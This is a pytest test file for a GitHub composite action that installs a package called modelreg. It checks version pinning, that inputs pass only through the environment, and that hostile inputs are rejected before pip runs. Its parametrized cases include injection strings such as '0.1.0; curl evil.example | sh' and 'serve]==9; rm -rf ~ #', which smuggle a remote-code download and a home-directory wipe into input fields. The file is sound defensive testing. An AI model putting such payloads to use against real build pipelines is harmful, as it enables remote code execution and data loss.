"""The root action other repositories use (`uses: <owner>/modelreg@v0.1.0`).

Its install step runs as Actions runs it (``bash -eo pipefail``) with a stand-in
``python`` that records the pip command instead of reaching the package index, so
these check what it would install and that hostile inputs never reach a command.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).parent.parent
ACTION = ROOT / "action.yml"
BIN = Path(sys.executable).parent


@pytest.fixture
def fake_python(tmp_path: Path) -> Path:
    """A `python` that logs its arguments and answers `-m modelreg --version`."""
    shim = tmp_path / "python"
    shim.write_text(
        "#!/usr/bin/env bash\n"
        'printf "%s\\n" "$*" >> "$CALLS"\n'
        'if [ "$2" = modelreg ]; then echo "modelreg, version 0.1.0"; fi\n'
    )
    shim.chmod(0o755)
    return shim


def install_step(tmp_path: Path, python: Path, version: str, extras: str) -> tuple[int, str, str]:
    action = yaml.safe_load(ACTION.read_text())
    [step] = [s for s in action["runs"]["steps"] if s.get("id") == "install"]
    assert step["env"] == {
        "MODELREG_VERSION": "${{ inputs.version }}",
        "MODELREG_EXTRAS": "${{ inputs.extras }}",
    }
    calls, output = tmp_path / "calls", tmp_path / "output"
    env = {
        **os.environ,
        "GITHUB_ACTION_PATH": str(ROOT),
        "GITHUB_OUTPUT": str(output),
        "CALLS": str(calls),
        "PYTHON": str(python),
        "MODELREG_VERSION": version,
        "MODELREG_EXTRAS": extras,
    }
    done = subprocess.run(
        ["bash", "-eo", "pipefail", "-c", step["run"]],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    recorded = calls.read_text() if calls.exists() else ""
    written = output.read_text() if output.exists() else ""
    return done.returncode, done.stdout + done.stderr, recorded + "|" + written


def test_the_action_installs_the_release_with_its_extras(tmp_path: Path, fake_python: Path) -> None:
    code, out, calls = install_step(tmp_path, fake_python, "0.1.0", "export, serve")
    assert code == 0, out
    assert calls == (
        "-m pip install --disable-pip-version-check modelreg[export,serve]==0.1.0\n"
        "-m modelreg --version\n|version=0.1.0\n"
    )
    (tmp_path / "b").mkdir()
    code, out, calls = install_step(tmp_path / "b", fake_python, "1.2.0rc1", "")
    assert code == 0, out
    assert calls.startswith("-m pip install --disable-pip-version-check modelreg==1.2.0rc1\n")


@pytest.mark.parametrize(
    ("version", "extras", "error"),
    [
        ("latest", "", "::error::version: expected a modelreg release such as 0.1.0, not 'latest'"),
        ("0.1.0; curl evil.example | sh", "", "not '0.1.0? curl evil.example ? sh'"),
        ("0.1.0\n::set-output name=x::y", "", "not '0.1.0???set-output name?x??y'"),
        ("0.1.0", "export,torch", "::error::extras: unknown extra 'torch'"),
        ("0.1.0", "serve]==9; rm -rf ~ #", "unknown extra 'serve???9?rm-rf??'"),
    ],
)
def test_hostile_or_wrong_inputs_fail_before_pip(
    tmp_path: Path, fake_python: Path, version: str, extras: str, error: str
) -> None:
    code, out, calls = install_step(tmp_path, fake_python, version, extras)
    assert code == 1
    assert error in out
    assert calls == "|"  # pip never ran, nothing written to the step's outputs


def test_the_action_is_pinned_and_passes_inputs_only_through_the_environment() -> None:
    action = yaml.safe_load(ACTION.read_text())
    assert action["runs"]["using"] == "composite"
    for step in action["runs"]["steps"]:
        if "uses" in step:
            assert len(step["uses"].split("@")[1]) == 40, step["uses"]
        assert "${{" not in step.get("run", "")
    done = subprocess.run(
        [str(BIN / "zizmor"), "--offline", "--format", "json", str(ACTION)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert json.loads(done.stdout) == []


# --- the setup action of this repository's own workflows, run by the local runner --------

SETUP = "./.github/actions/setup-modelreg"


def setup_job(tmp_path: Path, **given: str) -> Path:
    """A one-job workflow that uses the setup action with ``given`` inputs."""
    step: dict[str, object] = {"uses": SETUP}
    if given:
        step["with"] = given
    workflow = {
        "on": {"push": None},
        "permissions": {},
        "jobs": {"setup": {"runs-on": "ubuntu-latest", "steps": [step]}},
    }
    tmp_path.mkdir(parents=True, exist_ok=True)
    path = tmp_path / "setup.yml"
    path.write_text(yaml.safe_dump(workflow))
    return path


def run_setup(
    repo: Path, tmp_path: Path, actions_root: Path = ROOT, **given: str
) -> tuple[bool, str]:
    from tests.actions_runner import Runner

    runner = Runner(repo, tmp_path / "runs", event_name="push", event={}, actions_root=actions_root)
    job = runner.run(setup_job(tmp_path, **given), "setup", check=False)
    step = job.step(SETUP)
    assert not step.skipped
    return job.failed, step.output


def test_the_runner_runs_the_setup_actions_steps_offline(empty_repo: Path, tmp_path: Path) -> None:
    failed, output = run_setup(empty_repo, tmp_path, extras="export,serve")
    assert not failed, output
    assert output.startswith("Install modelreg:\noffline pip: install ")
    assert f"-c {ROOT / 'constraints.txt'} 'modelreg[export,serve]'\n" in output
    assert "download.pytorch.org" not in output  # no index: offline
    assert "modelreg, version" in output


def test_the_setup_actions_inputs_reach_its_steps(empty_repo: Path, tmp_path: Path) -> None:
    # An extra modelreg does not have: pip's check fails the step, so the job.
    failed, output = run_setup(empty_repo, tmp_path / "a", extras="torch")
    assert failed and "does not provide the extra 'torch'" in output
    # The GPU build is not what this machine has installed.
    failed, output = run_setup(empty_repo, tmp_path / "b", gpu="true")
    assert failed and "offline pip: would uninstall onnxruntime" in output
    assert "onnxruntime-gpu" in output
    # An input the action does not declare is refused, as a typo would be.
    with pytest.raises(AssertionError, match=r"takes no inputs \['extra'\]"):
        run_setup(empty_repo, tmp_path / "c", extra="export")


def test_a_broken_setup_action_fails_the_job(empty_repo: Path, tmp_path: Path) -> None:
    """The action's steps really run: a copy whose install step asks for a package
    that is not installed fails, where the real one passes."""
    copy = tmp_path / "copy"
    action = copy / ".github" / "actions" / "setup-modelreg" / "action.yml"
    action.parent.mkdir(parents=True)
    text = (ROOT / SETUP / "action.yml").read_text()
    assert text.count('"$spec"\n') == 1
    action.write_text(text.replace('"$spec"\n', '"$spec" not-installed-anywhere\n'))
    failed, output = run_setup(empty_repo, tmp_path / "a", actions_root=copy)
    assert failed and "not-installed-anywhere" in output
    assert "modelreg, version" not in output  # the step stopped at pip (bash -e)
    failed, output = run_setup(empty_repo, tmp_path / "b")
    assert not failed, output
